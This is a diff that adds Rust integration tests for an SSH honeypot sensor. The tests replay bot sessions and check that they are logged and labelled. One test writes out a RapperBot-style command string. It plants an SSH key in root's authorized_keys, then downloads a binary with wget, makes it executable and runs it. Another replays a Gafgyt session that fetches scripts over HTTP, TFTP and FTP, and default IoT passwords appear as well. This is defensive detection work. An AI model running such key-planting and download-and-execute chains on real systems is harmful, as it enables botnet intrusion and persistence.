@@ -343,3 +343,163 @@ fn a_key_planted_over_ssh_is_recorded_and_then_lets_its_owner_in() {
     );
     assert_eq!(back.stdout, b"back in\n");
 }
+
+/// Runs the paramiko client (`tests/clients/paramiko_client.py`, with the venv's
+/// Python that `scripts/test` puts first on PATH) and returns what it printed.
+fn paramiko(args: serde_json::Value) -> serde_json::Value {
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/clients/paramiko_client.py");
+    let out = Command::new("python3")
+        .arg(&script)
+        .arg(args.to_string())
+        .output()
+        .expect("python3 (scripts/test makes a venv with paramiko and puts it on PATH)");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        !stderr.contains("No module named 'paramiko'"),
+        "paramiko is missing: run the tests through scripts/test (it installs paramiko into target/test-tools/venv)"
+    );
+    assert!(out.status.success(), "paramiko client failed: {stderr}");
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"))
+}
+
+fn decoded(v: &serde_json::Value) -> Vec<u8> {
+    use std::io::Read;
+    // The standard alphabet with padding, decoded by hand-free means: Python's base64
+    // round-trips through the `base64` command.
+    let mut child = Command::new("base64")
+        .arg("-d")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(v.as_str().unwrap().as_bytes())
+        .unwrap();
+    let mut out = Vec::new();
+    child.stdout.take().unwrap().read_to_end(&mut out).unwrap();
+    child.wait().unwrap();
+    out
+}
+
+#[test]
+fn paramiko_runs_exec_and_a_pty_shell() {
+    let sensor = start();
+    let port = sensor.ssh.unwrap().port();
+    let exec = paramiko(serde_json::json!({
+        "port": port, "user": "root", "password": "xc3511",
+        "exec": "echo from-paramiko; exit 5"
+    }));
+    assert_eq!(exec["server_version"], "SSH-2.0-dropbear_2022.83");
+    assert_eq!(exec["auth"], "ok");
+    assert_eq!(
+        exec["allowed"],
+        serde_json::json!(["publickey", "password"])
+    );
+    assert_eq!(exec["exit_status"], 5);
+    assert_eq!(decoded(&exec["stdout"]), b"from-paramiko\n");
+    let shell = paramiko(serde_json::json!({
+        "port": port, "user": "root", "password": "xc3511",
+        "shell": "echo $((40+2))\rexit\r"
+    }));
+    let out = String::from_utf8_lossy(&decoded(&shell["stdout"])).into_owned();
+    assert!(out.contains("\r\n42\r\n"), "{out}");
+    assert_eq!(shell["exit_status"], 0);
+    let wrong = paramiko(serde_json::json!({
+        "port": port, "user": "root", "password": "nope", "exec": "true"
+    }));
+    assert_eq!(wrong["auth"], "failed");
+}
+
+#[test]
+fn a_rapperbot_style_client_is_labelled_and_its_key_and_download_recorded() {
+    let sensor = start();
+    let port = sensor.ssh.unwrap().port();
+    // RapperBot: its own identification, DH with aes128-ctr, a key appended to
+    // root's authorized_keys, then its binary fetched.
+    let bot = paramiko(serde_json::json!({
+        "port": port, "user": "root", "password": "xc3511",
+        "ident": "SSH-2.0-HELLOWORLD",
+        "kex": ["diffie-hellman-group14-sha1"],
+        "ciphers": ["aes128-ctr"],
+        "exec": "mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC0 helloworld' >> ~/.ssh/authorized_keys; cd /tmp; wget http://127.0.0.1:8000/rapper.x86; chmod +x rapper.x86; ./rapper.x86"
+    }));
+    assert_eq!(bot["auth"], "ok");
+    assert_eq!(bot["cipher"], "aes128-ctr");
+    let events = sensor.wait_for_events("the bot's session end", |e| {
+        e.iter().any(|e| e["eventid"] == "cowrie.session.closed")
+    });
+    let find = |id: &str| {
+        events
+            .iter()
+            .find(|e| e["eventid"] == id)
+            .unwrap_or_else(|| panic!("no {id}: {events:#?}"))
+    };
+    assert_eq!(
+        find("cowrie.client.version")["version"],
+        "SSH-2.0-HELLOWORLD"
+    );
+    assert_eq!(
+        find("cowrie.client.kex")["kexAlgs"][0],
+        "diffie-hellman-group14-sha1"
+    );
+    assert_eq!(
+        find("busybait.download.request")["url"],
+        "http://127.0.0.1:8000/rapper.x86"
+    );
+    assert_eq!(
+        find("busybait.persistence.ssh_key")["comment"],
+        "helloworld"
+    );
+    assert_eq!(find("busybait.session.family")["family"], "rapperbot");
+}
+
+#[test]
+fn the_real_gafgyt_ssh_session_runs_to_its_end() {
+    // testdata/sessions/gafgyt-ssh-2023-12-09: a Go client (SSH-2.0-Go) that got in
+    // with admin:admin and ran one line (its hosts rewritten to 127.0.0.1).
+    let text = std::fs::read_to_string(
+        util::testdata().join("sessions/gafgyt-ssh-2023-12-09.cowrie.jsonl"),
+    )
+    .unwrap();
+    let command = text
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .find(|e| e["eventid"] == "cowrie.command.input")
+        .unwrap()["input"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let sensor = start();
+    let port = sensor.ssh.unwrap().port();
+    let run = paramiko(serde_json::json!({
+        "port": port, "user": "admin", "password": "admin",
+        "ident": "SSH-2.0-Go", "exec": command
+    }));
+    assert_eq!(run["auth"], "ok");
+    let events = sensor.wait_for_events("the session's end", |e| {
+        e.iter().any(|e| e["eventid"] == "cowrie.session.closed")
+    });
+    let urls: Vec<&str> = events
+        .iter()
+        .filter(|e| e["eventid"] == "busybait.download.request" && e["tool"] != "command-line")
+        .map(|e| e["url"].as_str().unwrap())
+        .collect();
+    // The oracle has wget, tftp and ftpget (and no curl).
+    assert_eq!(
+        urls,
+        [
+            "http://127.0.0.1/z.sh",
+            "tftp://127.0.0.1:69/tz.sh",
+            "tftp://127.0.0.1:69/tz2.sh",
+            "ftp://anonymous@127.0.0.1:21/z1.sh"
+        ]
+    );
+    let family = events
+        .iter()
+        .find(|e| e["eventid"] == "busybait.session.family")
+        .unwrap();
+    assert_eq!(family["family"], "gafgyt");
+}
